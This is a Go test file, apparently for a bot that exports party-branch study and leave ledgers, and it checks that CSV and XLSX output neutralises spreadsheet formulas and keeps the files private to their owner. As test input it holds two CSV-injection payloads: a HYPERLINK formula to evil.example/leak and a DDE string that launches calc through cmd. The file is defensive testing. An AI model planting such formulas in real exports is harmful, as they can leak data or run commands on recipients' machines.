package workbook_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/partybot/partybot/bot"
	"github.com/partybot/partybot/bot/workbook"
)

// Members' text that a spreadsheet would run as a formula (OWASP's CSV
// injection examples).
const (
	hyperlink = `=HYPERLINK("http://evil.example/leak","点此查看")`
	dde       = `-2+3+cmd|' /C calc'!A0`
)

// hostileLedger is a branch whose members wrote formulas as study content
// and as a leave reason.
func hostileLedger() bot.Ledger {
	b := branchLedger("tech", "技术党支部")
	day := bot.Date{Year: 2026, Month: 11, Day: 20}
	at := time.Date(2026, 11, 20, 9, 0, 0, 0, cst)
	b.Studies = []bot.StudyReport{
		{ID: "s1", BranchID: "tech", UserID: "lisi", Day: day, Minutes: 30, Content: hyperlink, Kind: bot.StudyKind("自学"), Reflection: "@SUM(1+1)", At: at},
		{ID: "s2", BranchID: "tech", UserID: "wangwu", Day: day, Minutes: 20, Content: "+1 学习党章", Kind: bot.StudyKind("自学"), Reflection: "=1+1", At: at},
	}
	b.Leaves = []bot.Leave{{ID: "l1", BranchID: "tech", UserID: "zhaoliu", From: day, To: day, Reason: dde, By: "zhaoliu", At: at}}
	month := bot.Span{From: bot.Date{Year: 2026, Month: 11, Day: 1}, To: bot.Date{Year: 2026, Month: 11, Day: 30}}
	return bot.Ledger{Span: month, Made: at, Location: cst, Branches: []bot.BranchLedger{b}}
}

// A CSV cell that begins with = + - @, a tab or a CR is written with a
// leading single quote, so a spreadsheet shows it as text; numbers the
// ledger computed are left alone.
func TestCSVNeutralizesFormulas(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "csv")
	l := hostileLedger()
	c, err := workbook.NewCSV(dir, bot.Ledger{Span: l.Span, Made: l.Made, Location: l.Location})
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Add(l.Branches[0]); err != nil {
		t.Fatal(err)
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	cells := map[string][]string{}
	for _, sheet := range []string{workbook.SheetStudy, workbook.SheetLeave} {
		raw, err := os.ReadFile(filepath.Join(dir, sheet+".csv"))
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\ufeff")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			cells[sheet] = append(cells[sheet], r...)
		}
	}
	for _, tc := range []struct{ sheet, want string }{
		{workbook.SheetStudy, "'" + hyperlink},
		{workbook.SheetStudy, "'@SUM(1+1)"},
		{workbook.SheetStudy, "'+1 学习党章"},
		{workbook.SheetStudy, "'=1+1"},
		{workbook.SheetStudy, "30"},
		{workbook.SheetLeave, "'" + dde},
	} {
		if !slices.Contains(cells[tc.sheet], tc.want) {
			t.Errorf("%s has no cell %q: %q", tc.sheet, tc.want, cells[tc.sheet])
		}
	}
	for sheet, cs := range cells {
		for _, cell := range cs {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: cell %q would run as a formula", sheet, cell)
			}
		}
	}
}

func TestNeutralizeCSV(t *testing.T) {
	cases := []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@A1", "'@A1"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
		{"", ""}, {"学习党章", "学习党章"}, {"a=b", "a=b"}, {"'quoted", "'quoted"},
	}
	for _, tc := range cases {
		if got := workbook.NeutralizeCSV(tc.in); got != tc.want {
			t.Errorf("NeutralizeCSV(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// In the workbook the same text is a string cell, never a formula: Excel
// shows it as typed, so it needs no quote.
func TestXLSXTextIsNeverAFormula(t *testing.T) {
	var buf bytes.Buffer
	if err := workbook.WriteXLSX(&buf, hostileLedger()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	found := 0
	for _, sheet := range []string{workbook.SheetStudy, workbook.SheetLeave} {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, value := range row {
				if value != hyperlink && value != dde {
					continue
				}
				found++
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, err := f.GetCellFormula(sheet, cell)
				typ, terr := f.GetCellType(sheet, cell)
				if err != nil || terr != nil || formula != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
					t.Errorf("%s!%s %q: formula %q, type %v (%v %v); want a string", sheet, cell, value, formula, typ, err, terr)
				}
			}
		}
	}
	if found != 2 {
		t.Fatalf("found the hostile text in %d cells, want 2", found)
	}
}

// A ledger names members and their leave reasons: the CSV files and the
// photos are the owner's alone (0600 files, 0700 folders).
func TestFilesAreTheOwnersOnly(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "out")
	l := hostileLedger()
	c, err := workbook.NewCSV(dir, l)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	b := l.Branches[0]
	m := bot.Meeting{ID: "m1", BranchID: "tech"}
	b.Meetings = []bot.MeetingLedger{{Record: bot.MeetingRecord{Meeting: m}, Photos: []bot.Photo{{MediaID: "p1", Bytes: 4}}}}
	read := func(context.Context, string, string, string) ([]byte, error) { return []byte("jpeg"), nil }
	if n, err := workbook.WritePhotos(t.Context(), dir, b, read); err != nil || n != 1 {
		t.Fatalf("photos: %d %v", n, err)
	}
	err = filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		want := os.FileMode(0o600)
		if d.IsDir() {
			want = 0o700
		}
		if info.Mode().Perm() != want {
			t.Errorf("%s is %v, want %v", path, info.Mode().Perm(), want)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
